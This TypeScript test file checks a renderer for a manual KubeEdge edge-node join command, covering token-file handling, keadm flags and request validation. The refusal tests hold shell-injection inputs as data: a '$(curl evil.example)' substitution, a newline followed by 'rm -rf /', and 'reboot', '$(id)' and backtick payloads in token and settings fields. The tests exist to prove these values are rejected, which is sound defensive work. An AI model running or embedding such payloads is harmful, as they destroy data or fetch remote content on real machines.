import { spawnSync } from 'node:child_process';
import { existsSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import fc from 'fast-check';
import { InvalidRequestError } from '../../../functions/shared/errors';
import {
  InvalidJoinSettingsError,
  InvalidJoinTokenError,
  renderHostScript,
} from '../../../functions/shared/join-script';
import { downloadUrlFor } from '../../../functions/shared/join-settings/core';
import { manualJoinCommand, renderManualJoinCommand } from '../../../functions/shared/manual-join';
import { OnboardRequest } from '../../../functions/shared/schemas';
import { completeSettings } from '../../../functions/shared/settings';
import { problemsFromIssues } from '../../../functions/shared/zod-problems';
import { validateOnboardRequest } from '../../../functions/validate-onboard-request/core';
import { thrown } from '../../support/thrown';
import { healthyCluster, settingsFor } from './fixtures';

const TOKEN = `${'a'.repeat(64)}.eyJhbGciOiJIUzI1NiJ9.eyJleHAiOjE3MDAwMDAwMDB9.c2lnbmF0dXJl`;
const HEREDOC_END = 'EDGEKEEPER_JOIN_SCRIPT_END';

/** KubeSphere's own case: a fork keadm v1.6.1 from the zh mirror, cloudcore at its public ports. */
const SETTINGS = settingsFor('v1.6.1', {
  nodeName: 'edge-7',
  nodeIp: '192.168.10.27',
  downloadUrl: downloadUrlFor('fork', 'v1.6.1', 'zh'),
});

/** The command's own lines around the embedded join script. */
function frame(command: string): { before: string[]; script: string; after: string[] } {
  const lines = command.split('\n');
  const start = lines.findIndex((line) => line.endsWith(`<<'${HEREDOC_END}'`));
  const end = lines.indexOf(HEREDOC_END);
  return {
    before: lines.slice(0, start + 1),
    script: lines.slice(start + 1, end).join('\n'),
    after: lines.slice(end),
  };
}

describe('the manual join command', () => {
  it('is the SSM join script, with its keadm flags, wrapped in a subshell that hands it the token in a file', () => {
    const command = renderManualJoinCommand(SETTINGS, TOKEN);

    const { before, script, after } = frame(command);
    expect(before).toEqual([
      '# edgekeeper: join this device to the cluster as edge node edge-7 (192.168.10.27), KubeEdge v1.6.1.',
      '# Run it once, as root, on the device. It holds the cluster join token: do not share it or keep a copy.',
      '(',
      'umask 077',
      'edgekeeper_dir=$(mktemp -d /tmp/edgekeeper-join.XXXXXX) || exit 1',
      `trap 'rm -rf -- "$edgekeeper_dir"' EXIT`,
      "trap 'exit 129' HUP",
      "trap 'exit 130' INT",
      "trap 'exit 143' TERM",
      `cat >"$edgekeeper_dir/join-edge-node.sh" <<'${HEREDOC_END}'`,
    ]);
    expect(after).toEqual([
      HEREDOC_END,
      `printf '%s' ${TOKEN} >"$edgekeeper_dir/token"`,
      'EDGEKEEPER_TOKEN_FILE="$edgekeeper_dir/token" bash "$edgekeeper_dir/join-edge-node.sh"',
      ')',
      '',
    ]);
    // the very script an SSM join sends: preflight, EdgeMesh preparation, download, keadm join
    expect(script).toBe(renderHostScript(SETTINGS));
    expect(script).toContain(
      // biome-ignore lint/suspicious/noTemplateCurlyInString: the script's own placeholder, filled in on the device
      "download_url_template='https://kubeedge.pek3b.qingstor.com/bin/v1.6.1/${arch}/keadm-v1.6.1-linux-${arch}.tar.gz'",
    );
    expect(script).toContain(
      'keadm_join_args=(join --kubeedge-version=1.6.1 --region=zh --cloudcore-ipport=203.0.113.9:10000 ' +
        '--certport=10002 --quicport=10001 --tunnelport=10004 --edgenode-name=edge-7 --edgenode-ip=192.168.10.27 ' +
        '--with-edge-taint)',
    );
  });

  it('leaves out the taint flag and follows the region, as the SSM join does', () => {
    const settings = { ...SETTINGS, taint: false, region: 'en' as const };

    const { script } = frame(renderManualJoinCommand(settings, TOKEN));

    expect(script).toContain('--region=en');
    expect(script).not.toContain('--with-edge-taint');
  });

  it('runs in any POSIX sh: the script reads the token from a private file, and nothing of it is left behind', () => {
    const dir = mkdtempSync(join(tmpdir(), 'edgekeeper-manual-join-'));
    try {
      const { before, after } = frame(renderManualJoinCommand(SETTINGS, TOKEN));
      // a stand-in for the join script: records what it was given, in place of joining this machine
      const standIn = [
        `cat "$EDGEKEEPER_TOKEN_FILE" >${dir}/token`,
        `stat -c %a "$EDGEKEEPER_TOKEN_FILE" >${dir}/mode`,
        `printf '%s' "$EDGEKEEPER_TOKEN_FILE" >${dir}/path`,
        `env >${dir}/env`,
        'exit 21',
      ];
      const command = [...before, ...standIn, ...after].join('\n');
      writeFileSync(join(dir, 'paste'), command);

      const run = spawnSync('sh', [join(dir, 'paste')], { encoding: 'utf8', env: { PATH: '/usr/bin:/bin' } });

      // the script's exit status is the command's; the person's own shell never exits (the subshell does)
      expect(run.status).toBe(21);
      expect(readFileSync(join(dir, 'token'), 'utf8')).toBe(TOKEN);
      expect(readFileSync(join(dir, 'mode'), 'utf8').trim()).toBe('600');
      expect(readFileSync(join(dir, 'env'), 'utf8')).not.toContain(TOKEN);
      expect(existsSync(readFileSync(join(dir, 'path'), 'utf8'))).toBe(false);
    } finally {
      rmSync(dir, { recursive: true, force: true });
    }
  });

  it.each([
    ['a quote', `${TOKEN}'; reboot; '`],
    ['a command substitution', `$(curl evil.example)${TOKEN}`],
    ['a new line', `${TOKEN}\nrm -rf /`],
    ['nothing', ''],
  ])('refuses a token with %s, without showing it', (_what, token) => {
    const error = thrown(() => renderManualJoinCommand(SETTINGS, token));

    expect(error).toBeInstanceOf(InvalidJoinTokenError);
    expect((error as Error).message).not.toContain(TOKEN);
  });

  it('puts any token it accepts into the command as exactly those bytes', () => {
    fc.assert(
      fc.property(fc.string({ minLength: 1, maxLength: 40 }), (token) => {
        let command: string;
        try {
          command = renderManualJoinCommand(SETTINGS, token);
        } catch (error) {
          return error instanceof InvalidJoinTokenError;
        }
        const line = frame(command).after[1];
        const read = spawnSync('sh', ['-c', line.replace('>"$edgekeeper_dir/token"', '')], { encoding: 'utf8' });
        return read.stdout === token;
      }),
      { numRuns: 60 },
    );
  });

  it.each([
    ['nodeName', { nodeName: 'edge-1;reboot' }],
    ['nodeIp', { nodeIp: '$(id)' }],
    ['cloudcore.address', { cloudcore: { ...SETTINGS.cloudcore, address: "203.0.113.9'; id; '" } }],
    ['downloadUrl', { downloadUrl: 'https://example.com/`id`' }],
  ])('refuses hostile join settings (%s) before rendering anything', (field, overrides) => {
    const error = thrown(() => renderManualJoinCommand({ ...SETTINGS, ...overrides }, TOKEN));

    expect(error).toBeInstanceOf(InvalidJoinSettingsError);
    expect((error as Error).message).toMatch(new RegExp(`^${field.replace('.', '\\.')} `));
  });
});

describe('manualJoinCommand', () => {
  // refused before the cluster is read: these settings name no cluster
  const settings = completeSettings({});

  it('refuses a request that names an instance: that one edgekeeper joins itself', async () => {
    const error = await manualJoinCommand(settings, {
      nodeName: 'edge-7',
      nodeIp: '192.168.10.27',
      instanceId: 'mi-0123456789abcdef0',
    }).catch((caught: unknown) => caught);

    expect(error).toBeInstanceOf(InvalidRequestError);
    expect((error as InvalidRequestError).problems).toEqual([
      { field: 'instanceId', value: 'mi-0123456789abcdef0', reason: expect.stringContaining('must be left out') },
    ]);
  });

  it('refuses a bad request naming every field', async () => {
    const error = await manualJoinCommand(settings, { nodeName: 'Edge_7', nodeIp: '10.0.0.256' }).catch(
      (caught: unknown) => caught,
    );

    expect(error).toBeInstanceOf(InvalidRequestError);
    expect((error as InvalidRequestError).problems.map((problem) => problem.field)).toEqual(['nodeName', 'nodeIp']);
  });
});

describe('the join mode of an onboarding request', () => {
  const base = { nodeName: 'edge-7', nodeIp: '192.168.10.27' };

  it.each([
    [
      'mode manual with an instance',
      { ...base, mode: 'manual', instanceId: 'mi-0123456789abcdef0' },
      { field: 'instanceId', value: 'mi-0123456789abcdef0', reason: expect.stringMatching(/^must be left out/) },
    ],
    [
      'mode ssm without an instance',
      { ...base, mode: 'ssm' },
      { field: 'instanceId', value: undefined, reason: expect.stringMatching(/^is required with mode ssm/) },
    ],
    [
      'an unknown mode',
      { ...base, mode: 'ansible' },
      { field: 'mode', value: 'ansible', reason: 'must be ssm or manual' },
    ],
  ])('refuses %s, naming the field', (_what, request, problem) => {
    const parsed = OnboardRequest.safeParse(request);

    expect(parsed.success).toBe(false);
    expect(problemsFromIssues(parsed.error?.issues ?? [], request)).toEqual([problem]);
  });

  it('reports a mode conflict together with the other problems', () => {
    const request = { nodeName: 'Edge_7', nodeIp: '192.168.10.27', mode: 'ssm' };

    const parsed = OnboardRequest.safeParse(request);

    expect(problemsFromIssues(parsed.error?.issues ?? [], request).map((problem) => problem.field)).toEqual([
      'nodeName',
      'instanceId',
    ]);
  });

  it('is manual without an instance: validation skips the host checks and records no instance', () => {
    // no SSM instance could be described: a manual join has none
    const decision = validateOnboardRequest(base, healthyCluster({ ssmInstance: null }));

    expect(decision.request).toMatchObject({ ...base, mode: 'manual', instanceId: null });
    expect(decision.alreadyJoined).toBe(false);
  });

  it('is ssm with an instance', () => {
    const decision = validateOnboardRequest({ ...base, instanceId: 'mi-0123456789abcdef0' }, healthyCluster());

    expect(decision.request).toMatchObject({ mode: 'ssm', instanceId: 'mi-0123456789abcdef0' });
  });

  it('still needs a free name and IP for a manual join', () => {
    const observed = healthyCluster({
      ssmInstance: null,
      nodes: [
        { name: 'edge-7', internalIps: ['10.9.9.9'] },
        { name: 'worker-2', internalIps: ['192.168.10.27'] },
      ],
    });

    const error = thrown(() => validateOnboardRequest(base, observed));

    expect(error).toBeInstanceOf(InvalidRequestError);
    expect((error as InvalidRequestError).problems).toEqual([
      { field: 'nodeName', value: 'edge-7', reason: 'is already the name of a node' },
      { field: 'nodeIp', value: '192.168.10.27', reason: 'is already the InternalIP of node worker-2' },
    ]);
  });
});
